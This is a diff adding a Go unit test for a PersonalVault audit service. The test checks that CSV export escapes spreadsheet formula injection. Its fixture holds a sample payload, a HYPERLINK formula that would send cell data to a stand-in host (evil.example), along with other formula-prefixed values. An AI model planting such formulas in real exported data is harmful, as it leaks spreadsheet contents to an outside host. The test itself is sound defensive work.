@@ -0,0 +1,76 @@
+package services
+
+import (
+	"context"
+	"encoding/csv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/RaihanurRahman2022/PersonalVault/internal/app/entities"
+	"github.com/RaihanurRahman2022/PersonalVault/internal/app/repositories"
+)
+
+// auditRepo returns the same logs for every query.
+type auditRepo struct {
+	repositories.AuditRepository
+	logs []entities.AuditLog
+}
+
+func (r *auditRepo) Each(ctx context.Context, filter *entities.AuditQueryRequest, fn func(logs []entities.AuditLog) error) error {
+	return fn(r.logs)
+}
+
+func TestAuditExportCSVNeutralizesFormulas(t *testing.T) {
+	s := &AuditServiceImpl{auditRepo: &auditRepo{logs: []entities.AuditLog{{
+		CreatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+		Username:  "+alice",
+		IP:        "192.0.2.1",
+		UserAgent: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		Action:    "login",
+		Path:      "@SUM(1+1)",
+		Bytes:     10,
+		Outcome:   "failure",
+		Error:     "-2+3",
+	}, {
+		Username:  "\tbob",
+		UserAgent: "\r=1+1",
+		Path:      "/docs/a=b.txt",
+		Error:     "",
+	}}}}
+
+	var out strings.Builder
+	if err := s.ExportCSV(context.Background(), &entities.AuditQueryRequest{}, &out); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 3 {
+		t.Fatalf("exported %d records, want the header and 2 rows", len(records))
+	}
+
+	tests := []struct {
+		row, column int
+		want        string
+	}{
+		{1, 0, "2026-01-02T03:04:05Z"},
+		{1, 2, "'+alice"},
+		{1, 3, "192.0.2.1"},
+		{1, 4, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{1, 5, "login"},
+		{1, 6, "'@SUM(1+1)"},
+		{1, 7, "10"},
+		{1, 9, "'-2+3"},
+		{2, 2, "'\tbob"},
+		{2, 4, "'\r=1+1"},
+		{2, 6, "/docs/a=b.txt"},
+		{2, 9, ""},
+	}
+	for _, tt := range tests {
+		if got := records[tt.row][tt.column]; got != tt.want {
+			t.Errorf("row %d %s = %q, want %q", tt.row, auditCSVHeader[tt.column], got, tt.want)
+		}
+	}
+}